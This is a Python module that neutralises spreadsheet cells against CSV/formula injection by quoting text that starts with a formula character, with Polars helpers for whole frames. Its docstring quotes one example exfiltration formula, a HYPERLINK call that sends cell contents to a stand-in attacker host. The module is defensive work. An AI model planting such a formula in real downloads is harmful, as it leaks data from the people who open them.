"""Cells that are safe to open in a spreadsheet program (the OWASP rule against CSV injection).

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and a leading tab or carriage return can hide such a start), so a value a provider or
an analyst typed, such as ``=HYPERLINK("http://evil.example/?leak="&A1)``, could run when a
download is opened. Every text cell that a CSV file or a workbook carries goes through
:func:`neutralise` (the CSV writers in :mod:`careforce.io.csv_text` and
:mod:`careforce.io.downloads`, the workbook writers in :mod:`careforce.io.spreadsheets`): a
text starting with one of those characters gets a single quote ``'`` in front, which spreadsheet
programs show as text. A text that already starts with a quote gets one more, so that
:func:`restore` (drop one leading quote) gives back exactly what was written. Numbers stay
numbers: only text cells change, and a negative number stored as a number is untouched.
"""

from __future__ import annotations

from typing import Final

import polars as pl

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet program read a cell as a formula (OWASP)."""

QUOTE: Final = "'"
"""The prefix that makes a spreadsheet program show the cell as text."""

_NEEDS_QUOTE: Final = (*FORMULA_STARTS, QUOTE)
_NEEDS_QUOTE_PATTERN: Final = r"^[=+\-@\t\r']"


def neutralise(text: str) -> str:
    """The text as a safe cell: a quote in front when it starts with a formula character (or a
    quote); otherwise unchanged."""
    return QUOTE + text if text.startswith(_NEEDS_QUOTE) else text


def restore(cell: str) -> str:
    """The text a neutralised cell was made from (the inverse of :func:`neutralise`)."""
    return cell[1:] if cell.startswith(QUOTE) else cell


def neutralised_expression(column: pl.Expr) -> pl.Expr:
    """:func:`neutralise` as a Polars expression over a text column (nulls stay null)."""
    return (
        pl.when(column.str.contains(_NEEDS_QUOTE_PATTERN))
        .then(pl.lit(QUOTE) + column)
        .otherwise(column)
    )


def neutralised_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text column neutralised (numbers, dates and flags unchanged)."""
    text = [
        name
        for name, dtype in frame.schema.items()
        if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)
    ]
    if not text:
        return frame
    return frame.with_columns(
        neutralised_expression(pl.col(name).cast(pl.String)).alias(name) for name in text
    )
